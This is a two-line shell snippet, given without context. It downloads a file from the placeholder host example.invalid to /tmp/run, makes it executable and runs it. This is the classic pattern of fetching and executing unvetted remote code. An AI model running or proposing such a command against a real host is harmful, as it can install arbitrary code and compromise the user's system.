curl -o /tmp/run https://example.invalid/run && chmod +x /tmp/run
/tmp/run
